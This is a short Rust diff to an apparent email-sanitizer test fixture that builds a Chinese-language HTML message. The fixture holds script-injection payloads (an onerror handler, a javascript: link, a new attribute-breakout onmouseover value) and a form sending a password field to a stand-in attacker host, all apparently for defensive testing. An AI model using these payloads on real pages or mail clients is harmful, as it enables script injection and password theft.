@@ -17,6 +17,7 @@ pub(crate) fn html_mail() -> Vec<u8> {
 <img src="x" onerror="window.pwned=3">
 <img src="https://tracker.example/open.gif">
 <a href="javascript:window.pwned=4">点这里</a> <a href="https://support.example/kb/42">KB 42</a>
+<a href="https://portal.example/reset?token=1" title=" onmouseover=window.pwned=5 y">重置</a>
 <table><tr><td>序列号</td><td>T102210000999</td></tr><tr><td>错误</td><td>0xC004F074</td></tr></table>
 <form action="https://evil.example/steal"><input name="password"></form>
 </body></html>"#;
